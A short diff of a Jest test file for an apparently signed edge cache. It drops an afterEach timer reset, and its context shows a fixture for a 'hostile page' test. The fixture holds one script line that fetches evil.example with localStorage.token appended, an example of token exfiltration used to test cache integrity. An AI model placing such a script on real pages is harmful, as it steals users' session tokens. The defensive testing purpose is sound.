@@ -1,4 +1,4 @@
-import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals';
+import { beforeEach, describe, expect, jest, test } from '@jest/globals';
 import { signingKey } from '@viewmax/testing/signing-key';
 import { provideCaches } from '../testing/caches.ts';
 import { integrityOf } from '../testing/integrity-of.ts';
@@ -40,7 +40,6 @@ beforeEach(async () => {
   edge = await openTestEdge();
   await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), remoteOf('wallet', '1.0.0')]);
 });
-afterEach(() => void jest.useRealTimers());
 
 describe('a hostile page that writes into the caches', () => {
   const HOSTILE = '<html><script>fetch("https://evil.example/"+localStorage.token)</script>';
